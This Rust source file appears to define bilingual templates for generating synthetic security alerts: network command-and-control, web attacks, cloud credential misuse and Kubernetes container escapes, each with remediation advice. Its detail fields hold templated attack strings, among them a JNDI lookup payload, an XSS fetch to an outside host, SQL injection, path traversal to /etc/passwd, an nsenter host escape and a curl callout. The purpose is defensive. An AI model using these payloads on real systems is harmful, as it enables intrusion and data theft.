//! Alerts seen on the network, in applications, cloud products and clusters.

use super::{Profile, Text, detail};

pub(super) const NETWORK: Profile = Profile {
    source: "aegis_suspicious_event",
    meanings: &[
        (
            "该地址曾被用于传播恶意软件或远程控制。",
            "The address has served malware or remote control before.",
        ),
        (
            "服务器可能已经失陷并正在与外部通信。",
            "The server may be compromised and talks to the outside.",
        ),
        (
            "攻击者可能正以该服务器为跳板攻击其他目标。",
            "An attacker may use this server to attack others.",
        ),
    ],
    advice: &[
        (
            "请排查发起连接的进程，必要时封禁目标IP并检查安全组规则。",
            "Look at the process behind the connection; block the address and check the security group if needed.",
        ),
        (
            "建议抓取流量留证，并核查同一时间段的登录记录。",
            "Record the traffic as evidence and check logins of the same time.",
        ),
    ],
    tactics: &[
        ("TA0011", ("命令与控制", "Command and Control")),
        ("TA0008", ("横向移动", "Lateral Movement")),
    ],
    stages: &["command_and_control", "lateral_movement"],
    details: &[
        detail("远端IP", "Remote address", Text::Any(&["{public}"])),
        detail("远端端口", "Remote port", Text::Any(&["{port}", "4444", "3333"])),
        detail("恶意域名", "Domain", Text::Any(&["{host}"])),
        detail("本地IP", "Local address", Text::Any(&["{private}"])),
        detail("本地端口", "Local port", Text::Any(&["{port}"])),
        detail("进程路径", "Process path", Text::Any(&["{path}"])),
        detail("进程ID", "Process ID", Text::Any(&["{pid}"])),
        detail(
            "请求URL",
            "URL",
            Text::Any(&[
                "http://{host}/{token}/gate.php?id={md5}",
                "hxxp://{public}:{port}/{token}",
            ]),
        ),
        detail(
            "情报标签",
            "Indicator",
            Text::Said(&[
                ("矿池", "mining pool"),
                ("中控", "control server"),
                ("恶意下载源", "malware source"),
                ("扫描器", "scanner"),
            ]),
        ),
        detail("最近通信时间", "Last traffic", Text::Any(&["{time}"])),
    ],
};

pub(super) const WEB: Profile = Profile {
    source: "security_event",
    meanings: &[
        (
            "攻击者利用应用漏洞执行了恶意请求。",
            "An attacker sent a malicious request to a weak spot of the application.",
        ),
        (
            "该请求携带典型的攻击载荷。",
            "The request carries a typical payload.",
        ),
        (
            "如果攻击成功，攻击者可读取或修改应用数据。",
            "If it worked, the attacker can read or change the application's data.",
        ),
    ],
    advice: &[
        (
            "请尽快升级相关组件，并在应用防护中开启阻断模式。",
            "Update the component and switch application protection to blocking.",
        ),
        (
            "建议核对应用日志，确认攻击是否成功。",
            "Check the application's log to see whether the attack worked.",
        ),
    ],
    tactics: &[
        ("TA0001", ("初始访问", "Initial Access")),
        ("TA0002", ("执行", "Execution")),
    ],
    stages: &["initial_access", "command_execution"],
    details: &[
        detail("攻击源IP", "Attacker address", Text::Any(&["{public}"])),
        detail(
            "请求URL",
            "URL",
            Text::Any(&[
                "https://www.example.com/api/{token}?id=1' or '1'='1",
                "/index.php?s=/{token}/think",
                "/{token}/..%2f..%2fetc%2fpasswd",
            ]),
        ),
        detail("请求方法", "Method", Text::Any(&["GET", "POST", "PUT"])),
        detail(
            "攻击载荷",
            "Payload",
            Text::Any(&[
                "$[jndi:ldap://{host}:{port}/{token}]",
                "<script>fetch('//{host}/{token}')</script>",
                "' UNION SELECT {count},{pid},'{token}' -- ",
                "rO0ABXNy{md5}{token}",
            ]),
        ),
        detail(
            "User-Agent",
            "User-Agent",
            Text::Any(&[
                "Mozilla/5.0 (compatible; {token})",
                "python-requests/2.31",
                "sqlmap/1.7 ({token})",
            ]),
        ),
        detail(
            "调用栈",
            "Stack",
            Text::Any(&[
                "java.lang.Runtime.exec\n\tat com.example.{token}.Handler.run(Handler.java:{count})\n\tat com.example.Main.main(Main.java:{count})",
            ]),
        ),
        detail("应用进程ID", "Process ID", Text::Any(&["{pid}"])),
        detail("请求ID", "Request ID", Text::Any(&["{md5}"])),
        detail("请求时间", "Time", Text::Any(&["{time}"])),
        detail(
            "漏洞编号",
            "Vulnerability",
            Text::Any(&[
                "CVE-2021-44228",
                "CVE-2022-22965",
                "CVE-2017-5638",
                "CVE-2023-22527",
            ]),
        ),
    ],
};

pub(super) const CLOUD: Profile = Profile {
    source: "security_event",
    meanings: &[
        (
            "凭证可能已经泄露并被他人使用。",
            "The credentials may have leaked and be in use by others.",
        ),
        (
            "该操作不在此身份的日常行为之内。",
            "This identity does not usually do this.",
        ),
    ],
    advice: &[
        (
            "请确认调用者身份，必要时禁用AccessKey并轮转。",
            "Find out who called; disable and rotate the AccessKey if needed.",
        ),
        (
            "建议在操作审计中核查该身份近期的全部调用。",
            "Check all recent calls of this identity in the audit trail.",
        ),
        (
            "建议收紧授权策略并开启多因素认证。",
            "Tighten its permissions and switch on multi-factor authentication.",
        ),
    ],
    tactics: &[
        ("TA0006", ("凭证访问", "Credential Access")),
        ("TA0010", ("数据渗出", "Exfiltration")),
    ],
    stages: &["credential_access", "exfiltration"],
    details: &[
        detail("调用IP", "Caller address", Text::Any(&["{public}"])),
        detail("AccessKey ID", "AccessKey ID", Text::Any(&["LTAI****{token}"])),
        detail(
            "调用接口",
            "Operation",
            Text::Any(&[
                "ecs:DescribeInstances",
                "oss:GetObject",
                "ram:AttachPolicyToUser",
                "ecs:RunInstances",
            ]),
        ),
        detail(
            "身份类型",
            "Identity",
            Text::Said(&[
                ("RAM用户", "RAM user"),
                ("RAM角色", "RAM role"),
                ("主账号", "Account"),
            ]),
        ),
        detail("请求ID", "Request ID", Text::Any(&["{md5}"])),
        detail(
            "User-Agent",
            "User-Agent",
            Text::Any(&["AlibabaCloud (linux; amd64) {token}", "aliyun-cli/3.0 {token}"]),
        ),
        detail(
            "资源",
            "Resource",
            Text::Any(&[
                "acs:oss:*:*:bucket-{token}/{md5}",
                "acs:ecs:*:*:instance/i-{token}",
            ]),
        ),
        detail("调用次数", "Calls", Text::Any(&["{count}"])),
        detail("调用时间", "Time", Text::Any(&["{time}"])),
        detail(
            "策略",
            "Policy",
            Text::Any(&["AdministratorAccess", "AliyunOSSFullAccess", "custom-{token}"]),
        ),
    ],
};

pub(super) const CLUSTER: Profile = Profile {
    source: "aegis_suspicious_event",
    meanings: &[
        (
            "攻击者可能借助该操作控制集群中的其他工作负载。",
            "An attacker may use this to reach other workloads of the cluster.",
        ),
        (
            "容器可能已突破隔离并访问宿主机。",
            "The container may have left its isolation and reached the host.",
        ),
    ],
    advice: &[
        (
            "请核查发起请求的服务账号与镜像来源，必要时停止容器。",
            "Check the service account and where the image comes from; stop the container if needed.",
        ),
        (
            "建议收紧RBAC授权并启用准入控制。",
            "Tighten RBAC and use admission control.",
        ),
        (
            "建议使用可信镜像重建工作负载。",
            "Rebuild the workload from a trusted image.",
        ),
    ],
    tactics: &[
        ("TA0004", ("权限提升", "Privilege Escalation")),
        ("TA0007", ("发现", "Discovery")),
    ],
    stages: &["privilege_escalation", "discovery"],
    details: &[
        detail(
            "操作",
            "Verb",
            Text::Any(&[
                "create pods/exec",
                "get secrets",
                "create daemonsets",
                "patch clusterrolebindings",
            ]),
        ),
        detail(
            "服务账号",
            "Service account",
            Text::Any(&[
                "system:serviceaccount:default:default",
                "system:anonymous",
                "system:serviceaccount:kube-system:{token}",
            ]),
        ),
        detail("源IP", "Source address", Text::Any(&["{private}", "{public}"])),
        detail(
            "执行命令",
            "Command",
            Text::Any(&[
                "nsenter -t 1 -m -u -i -n sh -c {token}",
                "mount /dev/vda1 /mnt/{token}",
                "sh -c 'curl http://{public}:{port}/{token}'",
            ]),
        ),
        detail(
            "挂载路径",
            "Mounted path",
            Text::Any(&["/", "/var/run/docker.sock", "/etc/kubernetes/{token}"]),
        ),
        detail("审计ID", "Audit ID", Text::Any(&["{md5}"])),
        detail("镜像摘要", "Image digest", Text::Any(&["sha256:{sha256}"])),
        detail("进程ID", "Process ID", Text::Any(&["{pid}"])),
        detail(
            "User-Agent",
            "User-Agent",
            Text::Any(&["kubectl/v1.28 (linux/amd64) kubernetes/{token}"]),
        ),
        detail("请求时间", "Time", Text::Any(&["{time}"])),
    ],
};
